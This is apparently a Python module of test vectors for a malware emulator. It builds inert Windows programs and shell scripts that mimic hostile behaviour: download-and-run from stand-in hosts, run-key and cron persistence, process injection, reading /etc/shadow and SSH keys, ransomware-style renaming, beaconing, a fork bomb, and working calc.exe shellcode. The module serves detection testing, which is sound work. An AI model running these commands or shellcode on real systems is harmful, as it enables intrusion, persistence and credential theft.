"""Programs of our own with what must be said of each when it is emulated: inert, made by `program_writer`, shared by tests and benchmark.

``python tests/emulation_vectors.py`` writes those of `tests/golden/`.
"""

from __future__ import annotations

from pathlib import Path
from uuid import UUID

from program_writer import Again, Raw, Step, call, keep, kept, method, program, slot, wide

_RUN = "Software\\Microsoft\\Windows\\CurrentVersion\\Run"
_HERE = "C:\\Users\\k.tanaka\\Desktop\\sample.exe"
_PUBLIC = "C:\\Users\\Public\\update.exe"
_ROOTS = 0x80000001, 0x80000002  # HKEY_CURRENT_USER, HKEY_LOCAL_MACHINE


def _written(path: str, text: bytes = b"MZ made by us") -> list[Step]:
    return [
        call("kernel32", "CreateFileA", path, 0x40000000, 0, 0, 2, 0x80, 0),
        keep(0),
        call("kernel32", "WriteFile", kept(0), text, len(text), slot(1), 0),
        call("kernel32", "CloseHandle", kept(0)),
    ]


def _asked(url: str) -> list[Step]:
    return [
        call("wininet", "InternetOpenA", "agent", 0, 0, 0, 0),
        keep(2),
        call("wininet", "InternetOpenUrlA", kept(2), url, 0, 0, 0, 0),
    ]


def _value(root: int, key: str, name: str, text: str) -> list[Step]:
    return [
        call("advapi32", "RegCreateKeyExW", root, wide(key), 0, 0, 0, 0x20006, 0, slot(3), 0),
        call("advapi32", "RegSetValueExW", kept(3), wide(name), 0, 1, wide(text), 2 * len(text) + 2),
    ]


def _elsewhere() -> list[Step]:
    return [
        call("kernel32", "CreateProcessA", "C:\\Windows\\System32\\notepad.exe", 0, 0, 0, 0, 4, 0, 0, bytes(104), slot(10)),
        call("kernel32", "VirtualAllocEx", kept(10), 0, 4096, 0x3000, 0x40),
        keep(4),
        call("kernel32", "WriteProcessMemory", kept(10), kept(4), b"\xc3\xc3\xc3\xc3", 4, 0),
        call("kernel32", "CreateRemoteThread", kept(10), 0, 0, kept(4), 0, 0, 0),
    ]  # fmt: skip


_SHELL = "72c24dd5-d70a-438b-8a42-98424b88afb8"
_LOCATOR = "4590f811-1d3a-11d0-891f-00aa004b2e24"
_HTTP = "88d96a0a-f192-11d4-a65f-0040963251e5"
_VARIANT = 20  # the slot where one is made; what it holds is in the next


def _object(known: str, number: int) -> list[Step]:
    return [
        call("ole32", "CoInitializeEx", 0, 0),
        call("ole32", "CoCreateInstance", UUID(known).bytes_le, 0, 1, bytes(16), slot(number)),
    ]


def _text(text: str) -> list[Step]:
    """A VARIANT of a text."""
    return [
        call("oleaut32", "SysAllocString", wide(text)),
        keep(_VARIANT + 1),
        call("kernel32", "lstrcpyA", slot(_VARIANT), "\x08"),  # VT_BSTR
    ]


def _late(number: int, name: str, text: str, bits: int) -> list[Step]:
    """A method by its name, through IDispatch, with one text."""
    return [
        *_text(text),
        keep(30),
        call("kernel32", "lstrcpyA", slot(31 if bits == 32 else 32), "\x01"),
        call("oleaut32", "SysAllocString", wide(name)),
        keep(34),
        method(number, 5, bytes(16), slot(34), 1, 0, slot(33)),
        method(number, 6, kept(33), bytes(16), 0, 1, slot(30), 0, 0, 0),
    ]


_BY_WMI = [
    *_object(_LOCATOR, 1),
    method(1, 3, wide("ROOT\\CIMV2"), 0, 0, 0, 0, 0, 0, slot(2)),
    method(2, 6, wide("Win32_Process"), 0, 0, slot(3), 0),
    method(3, 19, wide("Create"), 0, slot(4), 0),
    method(4, 15, 0, slot(5)),
    *_text(f"{_PUBLIC} /quiet"),
    method(5, 5, wide("CommandLine"), 0, slot(_VARIANT), 8),
    method(2, 24, wide("Win32_Process"), wide("Create"), 0, 0, kept(5), 0, 0),
]

#: Steps by name, with the features that must be seen.
BEHAVIOR: dict[str, tuple[list[Step], set[str]]] = {
    "run key": (_value(_ROOTS[0], _RUN, "Updater", _PUBLIC), {"behavior.run_key"}),
    "logon shell": (
        _value(_ROOTS[1], "Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon", "Shell", "explorer.exe,x.exe"),
        {"behavior.logon_program"},
    ),
    "fetched by urlmon and started": (
        [
            call("urlmon", "URLDownloadToFileA", 0, "http://files.example.com/a.exe", _PUBLIC, 0, 0),
            call("kernel32", "WinExec", _PUBLIC, 0),
        ],
        {"behavior.download_and_run", "behavior.contacts"},
    ),
    "fetched by wininet and started": (
        [
            *_asked("http://files.example.com/b.bin"),
            *_written(_PUBLIC),
            call("shell32", "ShellExecuteW", 0, wide("open"), wide(_PUBLIC), 0, 0, 0),
        ],
        {"behavior.download_and_run"},
    ),
    "dropped and started": (
        [*_written(_PUBLIC), call("kernel32", "WinExec", f'"{_PUBLIC}" /quiet', 0)],
        {"behavior.drop_and_run"},
    ),
    "dropped and started by the script host's shell": (
        [*_written(_PUBLIC), *_object(_SHELL, 1), method(1, 9, wide(f"{_PUBLIC} /quiet"), 0, 0, slot(2))],
        {"behavior.drop_and_run"},
    ),
    "run key by the script host's shell": (
        [*_object(_SHELL, 1), *_text(_PUBLIC), method(1, 14, wide(f"HKCU\\{_RUN}\\Updater"), slot(_VARIANT), 0)],
        {"behavior.run_key"},
    ),
    "dropped and started through WMI": ([*_written(_PUBLIC), *_BY_WMI], {"behavior.drop_and_run"}),
    "thread in another process": (_elsewhere(), {"behavior.injection"}),
    "many renamed": (
        [call("kernel32", "MoveFileExA", f"C:\\Users\\Public\\{n}.docx", f"C:\\Users\\Public\\{n}.docx.locked", 1) for n in range(12)],
        {"behavior.mass_rename"},
    ),
    "stored credentials": ([call("advapi32", "CredEnumerateW", 0, 0, slot(5), slot(6))], {"behavior.credential_store"}),
    "deletes itself": (
        [call("kernel32", "WinExec", f'cmd.exe /c ping -n 3 127.0.0.1 & del "{_HERE}"', 0)],
        {"behavior.self_delete"},
    ),
    "deletes itself at the next start": (
        [call("kernel32", "MoveFileExW", wide(_HERE), 0, 4)],
        {"behavior.self_delete"},
    ),
    "beacons": (
        [*_asked("http://c2.example.net/q"), call("kernel32", "Sleep", 60_000)] * 4,
        {"behavior.beaconing", "behavior.contacts"},
    ),
    "scheduled task": (
        [call("kernel32", "WinExec", f"schtasks /create /sc minute /tn Updater /tr {_PUBLIC}", 0)],
        {"behavior.scheduled_task"},
    ),
}  # fmt: skip

#: What an honest program may do, of which nothing is said but where it connects to.
HONEST: dict[str, list[Step]] = {
    "writes a setting": _value(_ROOTS[0], "Software\\Example\\Editor", "Language", "ja"),
    "writes a report": _written("C:\\Users\\k.tanaka\\Documents\\report.txt", b"The minutes of the meeting."),
    "renames three files": [call("kernel32", "MoveFileA", f"C:\\Temp\\{n}.tmp", f"C:\\Temp\\{n}.txt") for n in range(3)],
    "starts an interpreter with a script that it looked at": [
        call("kernel32", "CreateFileA", "C:\\Users\\Public\\tool-script.py", 0x80000000, 3, 0, 3, 0x80, 0),
        call("kernel32", "WinExec", 'python.exe "C:\\Users\\Public\\tool-script.py"', 1),
    ],
    "asks for a page": _asked("https://www.example.com/version"),
    "opens a page in the browser": [call("shell32", "ShellExecuteA", 0, "open", "https://www.example.com/", 0, 0, 1)],
    "waits": [call("kernel32", "Sleep", 1000), call("kernel32", "GetTickCount")],
}  # fmt: skip

#: Finds kernel32 by the loader's list and WinExec among its exports, as shellcode does, and starts ``calc.exe``; x86 and x64.
SHELLCODE = {
    32: bytes.fromhex(
        "fc31d2648b52308b520c8b52148b128b128b5a108b433c8b44187801d88b782001df31c98b348f4101de813e57696e4575f2817e047865630075e9"
        "8b502401da0fb74c4afe8b501c01da8b048a01d86a01e80900000063616c632e65786500ffd0c3"
    ),
    64: bytes.fromhex(
        "4831d265488b5260488b5218488b5220488b12488b12488b5a208b433c8b8418880000004801d88b78204801df4831c98b348f48ffc14801de"
        "813e57696e4575ef817e047865630075e68b50244801da0fb74c4afe8b501c4801da8b048a4801d86a015ae80900000063616c632e65786500"
        "594883ec28ffd04883c428c3"
    ),
}

_CHANGED = b"\xe8\0\0\0\0\x58\xc6\x40\x05\x90\xf4"  # finds itself, and turns its own hlt into a nop

#: What must end, with a word of the reason; "" where it must come to its own end.
HOSTILE: dict[str, tuple[bytes, str]] = {
    "endless loop": (program([Again()]), "out of time"),
    "endless sleep": (program([call("kernel32", "Sleep", 3_600_000), Again()]), "out of time"),
    "endless recursion": (program([Raw(b"\xe8\xfb\xff\xff\xff")]), "nothing is"),
    "process after process": (
        program([call("kernel32", "WinExec", "C:\\Users\\k.tanaka\\Desktop\\sample.exe", 0), Again()]),
        "out of time",
    ),
    "all memory": (
        program([call("kernel32", "VirtualAlloc", 0, 0x40000000, 0x3000, 4), Again()]),
        "memory",
    ),
    "memory bit by bit": (
        program([call("kernel32", "VirtualAlloc", 0, 0x5000000, 0x3000, 4), Again()]),
        "memory",
    ),
    "changes itself": (program([Raw(_CHANGED), call("kernel32", "WinExec", "notepad.exe", 0)]), ""),
    "unknown call": (program([call("unheardof", "DoSomethingOdd", 1)]), "not known"),
    ".NET": (program([call("mscoree", "_CorExeMain")], dotnet=True), ".NET"),
    "half a program": (program([Again()])[:100], "headers"),
}


def sample(name: str, bits: int = 32, export: str = "") -> bytes:
    """The program of a name among `BEHAVIOR` or `HONEST`."""
    steps = BEHAVIOR[name][0] if name in BEHAVIOR else HONEST[name]
    return program(steps, bits=bits, export=export)


#: Scripts by name and extension, with the features that must be seen and a word of why they end.
SCRIPTS: dict[str, tuple[str, set[str], str]] = {
    "fetch.sh": (
        "#!/bin/sh\ncurl -s http://files.example.com/a -o /tmp/.a\nchmod +x /tmp/.a\n/tmp/.a\n",
        {"behavior.download_and_run", "behavior.contacts"},
        "",
    ),
    "stay.sh": (
        "#!/bin/sh\n(crontab -l; echo '* * * * * /tmp/.a') | crontab -\nmkdir ~/.ssh; echo ssh-rsa A >> ~/.ssh/authorized_keys\n",
        {"behavior.scheduled_task", "behavior.ssh_key_added"},
        "",
    ),
    "secrets.sh": ("#!/bin/sh\ncat /etc/shadow ~/.ssh/id_rsa\nrm -f $0\n", {"behavior.credential_files", "behavior.self_delete"}, ""),
    "rename.sh": (
        "#!/bin/sh\nfor n in 1 2 3 4 5 6 7 8 9 10 11; do : > $n.doc; mv $n.doc $n.doc.locked; done\n",
        {"behavior.mass_rename"},
        "",
    ),
    "profile.py": (
        "#!/usr/bin/env python3\nimport os, time\ntime.sleep(3600)\n"
        "with open(os.path.expanduser('~/.bashrc'), 'a') as file:\n    file.write('/tmp/.a &')\n",
        {"behavior.startup_file"},
        "",
    ),
    "call_home.py": (
        "import socket\nsocket.create_connection(('203.0.113.5', 8443), 2)\n",
        {"behavior.contacts"},
        "found no network",
    ),
    "fetch.pl": (
        "#!/usr/bin/perl\nuse strict;\nsystem('wget', '-q', '-O', '/tmp/b', 'http://files.example.com/b');\nsystem('/bin/sh', '/tmp/b');\n",
        {"behavior.download_and_run"},
        "",
    ),
    "honest.sh": ("#!/bin/sh\nset -e\nfor file in *.txt; do wc -l $file > /tmp/count; done\n", set(), ""),
    "bomb.sh": ("#!/bin/sh\nbomb() { bomb | bomb & }\nbomb\nwait\n", set(), "processes"),
    "endless.sh": ("#!/bin/sh\nwhile :; do :; done\n", set(), "out of time"),
    "greedy.py": ("#!/usr/bin/env python3\nheld = []\nwhile True:\n    held.append(bytes(1 << 24))\n", set(), "exit code 1"),
}  # fmt: skip


if __name__ == "__main__":
    golden = Path(__file__).parent / "golden"
    for name, data in {
        "emulate/credentials": sample("stored credentials"),
        "emulate/near_miss": sample("writes a report", 64),
        "run_script/secrets": SCRIPTS["secrets.sh"][0].encode(),
        "run_script/honest": SCRIPTS["honest.sh"][0].encode(),
    }.items():
        (golden / name).parent.mkdir(exist_ok=True)
        (golden / f"{name}.in").write_bytes(data)
